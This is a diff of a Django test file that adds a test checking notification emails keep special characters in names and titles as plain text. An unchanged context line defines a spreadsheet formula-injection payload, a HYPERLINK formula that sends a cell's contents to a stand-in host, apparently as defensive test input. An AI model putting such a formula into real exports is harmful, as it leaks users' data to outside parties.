@@ -7,6 +7,8 @@ import pytest
 from django.core import mail
 
 from apps.accounts.models import User
+from apps.notifications.channels import email
+from apps.notifications.tests.factories import NotificationFactory
 
 FORMULA = '=HYPERLINK("https://x.example/?"&A2,"Report")'
 
@@ -91,3 +93,15 @@ def test_name_errors_in_hindi(cast, api):
     )
     assert response.status_code == 400
     assert response.json()["error"]["fields"]["full_name"] == ["नाम में < या > नहीं हो सकते।"]
+
+
+def test_notification_emails_carry_names_as_plain_text(cast):
+    cast.parent.full_name = 'Ana O\'Brien & "Co"'
+    cast.parent.save()
+    notice = NotificationFactory(
+        recipient=cast.parent, title="Sam <Student> & co. was absent", body="See <a>x</a>"
+    )
+    subject, body = email.render(notice)
+    assert body.startswith('Hello Ana O\'Brien & "Co",')
+    assert "Sam <Student> & co. was absent" in subject and "See <a>x</a>" in body
+    assert "&amp;" not in body + subject and "&lt;" not in body + subject
